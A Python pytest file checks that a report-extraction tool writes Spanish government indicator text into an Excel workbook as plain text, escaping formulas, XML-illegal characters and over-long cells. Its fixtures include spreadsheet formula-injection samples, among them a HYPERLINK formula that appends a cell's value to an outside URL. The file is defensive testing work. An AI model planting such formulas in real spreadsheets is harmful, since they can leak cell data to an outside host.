"""The workbook `pnt extract` writes (pntdp.xlsx): report text stays text, and the workbook always opens.

Each test writes a damaged copy of the report (``damaged_report``), extracts it into a folder of
its own and loads the workbook back with openpyxl.
"""

from __future__ import annotations

import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from pntlib import workbook
from pntlib.extract import WORKBOOK_NAME, extract
from pntlib.workbook import CUT_MARKER, DICTIONARY_SHEET, MAX_CELL_CHARS, write_workbook

# Line 141: the heading of objective 1 (section 3); l.438: indicator 1.1's card field Definición;
# l.451: 1.1's variable (name, 5, 5, source).
OBJECTIVE_1 = "Promover la reforma del marco normativo en materia de trata de personas a nivel federal."
DEFINITION_1_1 = ("Mide el porcentaje de recomendaciones de reformas al marco normativo generadas en los espacios de "
                  "participación en relación con los 5 aspectos susceptibles de reforma identificados.")
SOURCE_1_1 = "Segob, de acuerdo con los insumos recopilados en los espacios de participación."
FORMULAS = {  # report text that openpyxl, left to itself, writes as a formula or an error value
    "title": '=HYPERLINK("http://example.org/?"&A1,"ver")',
    "definition": "+1+1 @SUM(A1:A9)",
    "source": "=1+1",
    "unit": "#N/A",
}


def _extract(path, tmp_path):
    out = tmp_path / "processed"
    extract(report=path, out=out)
    return out


def _cells(book):
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def _dictionary(book) -> list[tuple]:
    return list(book[DICTIONARY_SHEET].iter_rows(values_only=True))


def test_report_text_is_never_a_formula_or_an_error_value(damaged_report, tmp_path):
    path = damaged_report({f"Objetivo prioritario 1. {OBJECTIVE_1}": f"Objetivo prioritario 1. {FORMULAS['title']}",
                           DEFINITION_1_1: FORMULAS["definition"], f"\t{SOURCE_1_1}\t": f"\t{FORMULAS['source']}\t"},
                          edits=[(441, 1, "Recomendaciones", FORMULAS["unit"])])  # l.441: 1.1's Unidad de medida
    out = _extract(path, tmp_path)
    book = load_workbook(out / WORKBOOK_NAME)
    assert not [c.coordinate for c in _cells(book) if c.data_type in ("f", "e")]
    with zipfile.ZipFile(out / WORKBOOK_NAME) as archive:  # no <f> element in any sheet's XML
        assert not [n for n in archive.namelist() if n.startswith("xl/worksheets/") and b"<f>" in archive.read(n)]
    frames = {name: pd.DataFrame(list(book[name].iter_rows(values_only=True))[1:],
                                 columns=next(book[name].iter_rows(values_only=True)))
              for name in ("objectives", "indicators", "variables")}
    assert frames["objectives"].set_index("objective").loc[1, "title"] == FORMULAS["title"]
    card = frames["indicators"].set_index("indicator_id").loc["1.1"]
    assert (card["definition"], card["unit"]) == (FORMULAS["definition"], FORMULAS["unit"])
    assert FORMULAS["source"] in set(frames["variables"]["source"])
    # the CSV files are data: they keep the text verbatim, "=" and all (the README sends spreadsheet users to the workbook)
    csv = pd.read_csv(out / "indicators.csv", dtype=str, keep_default_na=False).set_index("indicator_id")
    assert (csv.loc["1.1", "definition"], csv.loc["1.1", "unit"]) == (FORMULAS["definition"], FORMULAS["unit"])
    objectives = pd.read_csv(out / "objectives.csv", dtype=str, keep_default_na=False)
    assert objectives.loc[objectives["objective"] == "1", "title"].tolist() == [FORMULAS["title"]]
    assert _dictionary(book)[3][:2] == ("changed_cells", "none")


def test_characters_xml_forbids_are_shown_visibly_and_the_workbook_opens(damaged_report, tmp_path):
    definition = f"Mide\ufffe el porcentaje\uffff {DEFINITION_1_1[len('Mide el porcentaje '):]}"
    out = _extract(damaged_report({DEFINITION_1_1: definition}), tmp_path)
    book = load_workbook(out / WORKBOOK_NAME)  # openpyxl loads it: the XML is well-formed
    sheet = book["indicators"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("definition") + 1)  # 1.1 is the first row
    assert cell.value == definition.replace("\ufffe", "[U+FFFE]").replace("\uffff", "[U+FFFF]")
    assert cell.data_type == "s"
    csv = pd.read_csv(out / "indicators.csv", dtype=str, keep_default_na=False).set_index("indicator_id")
    assert csv.loc["1.1", "definition"] == definition  # the CSV keeps the text as read
    assert pd.read_parquet(out / "indicators.parquet").set_index("indicator_id").loc["1.1", "definition"] == definition
    rows = _dictionary(book)
    assert rows[3][:2] == ("changed_cells", "2: listed at the end of this sheet")
    changes = [r[:3] for r in rows if r[0] == f"indicators!{cell.coordinate}"]
    assert changes == [(f"indicators!{cell.coordinate}", "definition", f"character U+{c} shown as [U+{c}] (XML cannot hold it)")
                       for c in ("FFFE", "FFFF")]


def test_the_parser_refuses_control_characters_naming_the_line(damaged_report, tmp_path):
    """C0 controls never reach the workbook from a report: the parser names the line (l.438)."""
    from pntlib.exceptions import ReportFormatError

    path = damaged_report({DEFINITION_1_1: "Mide el\x0b" + DEFINITION_1_1[len("Mide el"):]})
    with pytest.raises(ReportFormatError, match="line 438: control character U\\+000B at column 19"):
        extract(report=path, out=tmp_path / "processed")
    assert not (tmp_path / "processed" / WORKBOOK_NAME).exists()


ILLEGAL = ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x0e", "\x1f", "\ud800", "\udfff", "\ufffe", "\uffff"]


def test_every_character_xml_forbids_is_escaped_when_tables_are_written_directly(tmp_path):
    """write_workbook is public: tables made by hand may hold what no report file can (a lone surrogate)."""
    texts = [f"a{c}b" for c in ILLEGAL] + ["tab\tline\nend", "\U0001F600 \x7f \ufdd0"]  # the last two are legal
    frame = pd.DataFrame({"objective": pd.array(range(1, len(texts) + 1), dtype="Int64"),
                          "title": pd.Series(texts, dtype=object)})  # arrow strings cannot hold a lone surrogate
    path = write_workbook({"objectives": frame}, tmp_path / "book.xlsx", source={"source": "Cita\ufffe", "file": "x"})
    book = load_workbook(path)
    shown = [row[1] for row in list(book["objectives"].iter_rows(values_only=True))[1:]]
    assert shown == [f"a[U+{ord(c):04X}]b" for c in ILLEGAL] + texts[-2:]
    changed = [r[0] for r in _dictionary(book) if r[0] and "!" in r[0]]
    assert changed == [f"objectives!B{k}" for k in range(2, len(ILLEGAL) + 2)] + ["data_dictionary!B1"]
    assert _dictionary(book)[0][:2] == ("source", "Cita[U+FFFE]")  # the citation (the report's cover) too


def test_a_text_longer_than_a_cell_is_cut_with_a_marker_and_named(damaged_report, tmp_path):
    long = (DEFINITION_1_1 + " ") * (40009 // (len(DEFINITION_1_1) + 1)) + "x"
    long = long + "y" * (40009 - len(long))
    assert len(long) == 40009
    out = _extract(damaged_report({DEFINITION_1_1: long}), tmp_path)
    book = load_workbook(out / WORKBOOK_NAME)
    sheet = book["indicators"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("definition") + 1)
    marker = CUT_MARKER.format(length=40009)
    assert "40,009" in marker
    assert len(cell.value) == MAX_CELL_CHARS == 32767
    assert cell.value == long[: MAX_CELL_CHARS - len(marker)] + marker
    rows = _dictionary(book)
    assert rows[3][:2] == ("changed_cells", "1: listed at the end of this sheet")
    assert rows[-1][:2] == (f"indicators!{cell.coordinate}", "definition")
    assert "cut at 32,767 characters" in rows[-1][2] and "the text has 40,009 characters" in rows[-1][2]
    assert rows[-2][:3] == ("cell", "column", "change")
    # the CSV and Parquet files keep it whole
    csv = pd.read_csv(out / "indicators.csv", dtype=str, keep_default_na=False).set_index("indicator_id")
    assert csv.loc["1.1", "definition"] == long
    assert pd.read_parquet(out / "indicators.parquet").set_index("indicator_id").loc["1.1", "definition"] == long


def test_a_cut_never_splits_a_character_outside_the_basic_plane():
    """Excel counts UTF-16 code units: an emoji is two; the cut keeps whole characters."""
    text, notes = workbook.excel_text("\U0001F600" * 20000)
    assert len(text.encode("utf-16-le")) // 2 <= MAX_CELL_CHARS
    assert text.endswith(CUT_MARKER.format(length=20000)) and set(text[: -len(CUT_MARKER.format(length=20000))]) == {"\U0001F600"}
    assert len(notes) == 1
    assert workbook.excel_text("=1+1") == ("=1+1", [])
